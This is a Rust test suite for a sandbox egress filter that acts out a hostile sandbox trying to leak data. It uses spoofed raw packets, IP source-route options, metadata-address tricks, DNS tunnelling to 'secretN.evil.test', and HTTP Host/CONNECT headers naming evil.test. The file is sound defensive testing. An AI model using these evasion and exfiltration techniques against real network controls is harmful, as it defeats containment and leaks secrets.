//! A hostile sandbox tries to get bytes out. The host's namespace is watched packet by packet: nothing may be seen
//! there but the resolver's own questions for allowed names.

use std::{
    io::Write,
    net::{IpAddr, SocketAddr, TcpStream, UdpSocket},
    sync::atomic::Ordering,
    time::Duration,
};

use agentkernel_egress::Dropped;
use agentkernel_types::NetworkEventKind;
use domain::base::Rtype;

use crate::{
    world::{
        Capture, FOREIGN_RESOLVER, HOST_LAN, METADATA, NEIGHBOUR, OTHER, SERVER, SERVER_V6, World, allowlist,
        echo, names, open, public,
    },
    world_or_return,
};

/// Everything that was seen outside and was not a question to our own upstream.
fn leaked(capture: &Capture) -> Vec<(u8, IpAddr, u16)> {
    let resolver: IpAddr = crate::world::RESOLVER.parse().unwrap();
    let mut seen = capture.destinations();
    // Answers go back to the resolver's own address as well: the namespace has only a loopback.
    seen.retain(|(_, address, port)| !(*address == resolver && (*port == 53 || *port >= 1024)));
    seen
}

fn tcp(world: &World, to: &str) {
    let to: SocketAddr = to.parse().unwrap();
    world.sandbox.run(move || {
        if let Ok(mut stream) = TcpStream::connect_timeout(&to, Duration::from_secs(10)) {
            let _ = stream.write_all(b"secret");
        }
    });
}

fn udp(world: &World, to: &str, bytes: &'static [u8]) {
    let to: SocketAddr = to.parse().unwrap();
    world.sandbox.run(move || {
        let any = if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
        let socket = UdpSocket::bind(any).unwrap();
        let _ = socket.send_to(bytes, to);
    });
}

/// Packets by hand, as root of the sandbox can send them. `protocol`: of the socket.
fn raw(world: &World, packet: Vec<u8>) {
    world.sandbox.run(move || {
        // SAFETY: no memory is involved.
        let socket = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        assert!(socket >= 0);
        let device = c"eth0";
        // SAFETY: reads the name. By this device even where the destination is the loopback.
        let bound = unsafe {
            libc::setsockopt(
                socket,
                libc::SOL_SOCKET,
                libc::SO_BINDTODEVICE,
                device.as_ptr().cast(),
                5,
            )
        };
        assert_eq!(bound, 0);
        let mut to: libc::sockaddr_in = libc::sockaddr_in {
            sin_family: libc::AF_INET as u16,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(packet[16..20].try_into().unwrap()),
            },
            sin_zero: [0; 8],
        };
        // SAFETY: reads the packet and the address, both of which outlive the call; then closes what was opened.
        unsafe {
            let length = size_of::<libc::sockaddr_in>() as u32;
            libc::sendto(
                socket,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw mut to).cast(),
                length,
            );
            libc::close(socket);
        }
    });
}

/// An IPv4 packet of UDP with the given flags of fragmentation, options and source.
fn packet(source: [u8; 4], to: [u8; 4], fragment: u16, options: &[u8], protocol: u8) -> Vec<u8> {
    let header = 20 + options.len();
    let payload = [0x13, 0x88, 0, 9, 0, 14, 0, 0, b's', b'e', b'c', b'r', b'e', b't'];
    let length = (header + payload.len()) as u16;
    let mut bytes = vec![0x40 | (header / 4) as u8, 0];
    bytes.extend_from_slice(&length.to_be_bytes());
    bytes.extend_from_slice(&[0, 7]);
    bytes.extend_from_slice(&fragment.to_be_bytes());
    bytes.extend_from_slice(&[64, protocol, 0, 0]);
    bytes.extend_from_slice(&source);
    bytes.extend_from_slice(&to);
    bytes.extend_from_slice(options);
    bytes.extend_from_slice(&payload);
    bytes
}

/// Waits until the plane has handled everything that was sent before.
fn settle(world: &World) {
    let question = names::question("localhost", Rtype::A);
    world.sandbox.run(move || names::exchange(&question));
}

#[test]
fn not_one_packet_leaves_an_allowlist() {
    let mut world = world_or_return!(allowlist(&["good.test:443"]));
    world.names.set("good.test", &[SERVER]);
    world.names.set("evil.test", &[OTHER]);
    let places = [
        SERVER,
        OTHER,
        SERVER_V6,
        METADATA,
        HOST_LAN,
        NEIGHBOUR,
        FOREIGN_RESOLVER,
    ];
    let capture = Capture::new(&world.host);
    for place in places {
        let bracketed = if place.contains(':') {
            format!("[{place}]")
        } else {
            place.to_owned()
        };
        for port in [22, 53, 80, 443, 853, 8080] {
            tcp(&world, &format!("{bracketed}:{port}"));
            udp(&world, &format!("{bracketed}:{port}"), b"secret");
        }
    }
    // The same by other spellings of an address, and by addresses of the machine itself.
    for place in [
        "[::ffff:169.254.169.254]:80",
        "[64:ff9b::a9fe:a9fe]:80",
        "[2002:a9fe:a9fe::1]:80",
        "192.0.0.1:22",
    ] {
        tcp(&world, place);
        udp(&world, place, b"secret");
    }
    ping(&world, SERVER);
    settle(&world);
    assert_eq!(leaked(&capture), [], "something left");
    let denied = world
        .events()
        .iter()
        .filter(|event| matches!(event, NetworkEventKind::Denied(_)))
        .count();
    assert!(denied > 50, "each is explained: {denied}");
}

#[test]
fn packets_by_hand_do_not_leave_even_where_their_destination_is_public() {
    let world = world_or_return!(public());
    let arrived = world.trap(SERVER, 9);
    let capture = Capture::new(&world.host);
    let (here, to) = ([192, 0, 0, 2], [93, 184, 215, 14]);
    const MORE: u16 = 0x2000;
    raw(&world, packet(here, to, MORE, &[], 17));
    raw(&world, packet(here, to, 1, &[], 17));
    raw(&world, packet(here, to, MORE | 1, &[], 17));
    // A route that the sender chooses, and a record of it.
    raw(&world, packet(here, to, 0, &[131, 7, 4, 10, 1, 2, 3, 0], 17));
    raw(&world, packet(here, to, 0, &[7, 7, 4, 0, 0, 0, 0, 0], 17));
    // From somebody else.
    raw(&world, packet([10, 9, 9, 9], to, 0, &[], 17));
    // Neither TCP, UDP nor an echo: SCTP, GRE, IP in IP, an ICMP that nobody asked for.
    for protocol in [132, 47, 4, 41, 50, 1] {
        raw(&world, packet(here, to, 0, &[], protocol));
    }
    settle(&world);
    assert_eq!(leaked(&capture), []);
    assert_eq!(arrived.load(Ordering::SeqCst), 0);
    let dropped: u64 = world
        .egress()
        .statistics()
        .dropped
        .iter()
        .map(|(_, count)| count)
        .sum();
    assert!(
        dropped >= 12,
        "each is counted: {:?}",
        world.egress().statistics().dropped
    );
}

#[test]
fn the_loopback_of_the_sandbox_is_no_way_out() {
    let world = world_or_return!(open());
    let (server, loopback) = (world.trap(SERVER, 9), world.trap("127.0.0.1", 9));
    // Published services there are answered by packets with this source: nobody else may use it.
    let published = agentkernel_egress::Published {
        host: "127.0.0.1:0".parse().unwrap(),
        guest_port: 5000,
        protocol: agentkernel_types::Protocol::Tcp,
    };
    world.runtime.block_on(world.egress().publish(published)).unwrap();
    let capture = Capture::new(&world.host);
    let (here, itself, to) = ([192, 0, 0, 2], [127, 0, 0, 1], [93, 184, 215, 14]);
    raw(&world, packet(itself, to, 0, &[], 17));
    raw(&world, packet(itself, [192, 0, 0, 1], 0, &[], 17));
    raw(&world, packet([127, 0, 0, 2], to, 0, &[], 17));
    raw(&world, packet(here, itself, 0, &[], 17));
    raw(&world, packet(itself, itself, 0, &[], 17));
    world.sandbox.run(move || {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        runtime.block_on(async {
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket.bind("127.0.0.1:5000".parse().unwrap()).unwrap();
            let connecting = socket.connect(SocketAddr::new(SERVER.parse().unwrap(), 9));
            let connected = tokio::time::timeout(Duration::from_millis(300), connecting).await;
            assert!(!matches!(connected, Ok(Ok(_))), "the SYN is not answered");
        });
    });
    settle(&world);
    assert_eq!(leaked(&capture), []);
    let arrived = (server.load(Ordering::SeqCst), loopback.load(Ordering::SeqCst));
    assert_eq!(arrived, (0, 0));
    let dropped = world.egress().statistics().dropped;
    let count = |wanted| dropped.iter().find(|(why, _)| *why == wanted).unwrap().1;
    assert!(count(Dropped::Spoofed) >= 4, "{dropped:?}");
    assert!(count(Dropped::Undirected) >= 2, "{dropped:?}");
}

#[test]
fn public_reaches_no_private_place() {
    let world = world_or_return!(public());
    let traps = [METADATA, HOST_LAN, NEIGHBOUR, "127.0.0.1"].map(|place| world.trap(place, 80));
    let capture = Capture::new(&world.host);
    for place in [
        METADATA,
        HOST_LAN,
        NEIGHBOUR,
        "192.0.0.1",
        "[::ffff:10.1.2.3]",
        "[64:ff9b::0a01:0203]",
    ] {
        tcp(&world, &format!("{place}:80"));
        udp(&world, &format!("{place}:80"), b"secret");
    }
    // To a foreign resolver, plain.
    udp(
        &world,
        &format!("{FOREIGN_RESOLVER}:53"),
        b"\0\x07\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04test\0\0\x01\0\x01",
    );
    settle(&world);
    assert_eq!(leaked(&capture), []);
    assert!(traps.iter().all(|trap| trap.load(Ordering::SeqCst) == 0));
}

#[test]
fn the_first_bytes_do_not_leave_when_they_name_somebody_else() {
    let mut world = world_or_return!(allowlist(&["good.test:80", "good.test:443"]));
    world.names.set("good.test", &[SERVER]);
    let (plain, secret) = (world.trap(SERVER, 80), world.trap(SERVER, 443));
    world.resolve("good.test").unwrap();
    let attempts: [(u16, &[u8]); 5] = [
        (80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        (
            80,
            b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        ),
        (80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        (443, b"secret in the clear"),
        (443, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ];
    for (port, bytes) in attempts {
        let mut stream = world
            .connect(format!("{SERVER}:{port}").parse().unwrap())
            .unwrap();
        stream.write_all(bytes).unwrap();
        let mut heard = Vec::new();
        let end = std::io::Read::read_to_end(&mut stream, &mut heard);
        assert!(end.is_err(), "it is reset: {}", bytes.escape_ascii());
    }
    // One for each connection that was made, and not a byte more.
    let counts = || (plain.load(Ordering::SeqCst), secret.load(Ordering::SeqCst));
    let begin = std::time::Instant::now();
    while counts() != (3, 2) && begin.elapsed().as_secs() < 20 {
        std::thread::yield_now();
    }
    assert_eq!(counts(), (3, 2));
    world.wait_for(
        |event| matches!(event, NetworkEventKind::Denied(denial) if denial.method.as_deref() == Some("GET")),
    );
}

#[test]
fn quic_needs_a_rule_of_its_own() {
    let world = world_or_return!(allowlist(&["good.test:443"]));
    world.names.set("good.test", &[SERVER]);
    world.resolve("good.test").unwrap();
    let capture = Capture::new(&world.host);
    udp(&world, &format!("{SERVER}:443"), b"\xc0\0\0\0\x01secret");
    settle(&world);
    assert_eq!(leaked(&capture), []);
    world.apply(&allowlist(&["good.test:443", "good.test:443/udp"]));
    udp(&world, &format!("{SERVER}:443"), b"\xc0\0\0\0\x01allowed");
    let begin = std::time::Instant::now();
    while leaked(&capture).is_empty() {
        assert!(begin.elapsed().as_secs() < 20, "now it leaves");
    }
}

#[test]
fn ten_thousand_made_up_names_do_not_all_leave() {
    let world = world_or_return!(public());
    world.sandbox.run(|| {
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        for number in 0..10_000 {
            let question = names::question(&format!("secret{number}.evil.test"), Rtype::A);
            let _ = socket.send_to(&question, "192.0.0.1:53");
        }
    });
    settle(&world);
    let asked = world.names.asked.lock().unwrap().len();
    assert!(asked <= 4000, "{asked} names left");
}

/// An echo request, as a program sends it. Whether an answer came.
fn ping(world: &World, to: &'static str) -> bool {
    world.sandbox.run(move || {
        // SAFETY: no memory is involved.
        let socket = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) };
        assert!(socket >= 0);
        // SAFETY: just made, and nobody else knows it.
        let socket: UdpSocket = unsafe { std::os::fd::FromRawFd::from_raw_fd(socket) };
        socket.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let message = [8u8, 0, 0xe5, 0xf5, 0, 7, 0, 1, 1, 2];
        let _ = socket.send_to(&message, (to, 0));
        let mut buffer = [0; 100];
        // Behind the IP header: an echo reply with our identifier.
        socket
            .recv(&mut buffer)
            .is_ok_and(|length| length >= 28 && buffer[20] == 0 && buffer[24..26] == [0, 7])
    })
}

#[test]
fn an_echo_comes_back_from_where_it_may_go() {
    let world = world_or_return!(public());
    // Whether this kernel gives echo sockets to this user.
    let offered = world
        .host
        .run(|| std::fs::write("/proc/sys/net/ipv4/ping_group_range", "0 2147483647").is_ok());
    assert!(ping(&world, "192.0.0.1"), "the gateway answers itself");
    if offered {
        assert!(ping(&world, SERVER));
    }
    assert!(!ping(&world, NEIGHBOUR));
}

#[test]
fn what_is_allowed_works_while_all_this_is_refused() {
    let world = world_or_return!(public());
    let to = world.serve(SERVER, 80, echo);
    assert!(world.connect(to).is_ok());
}
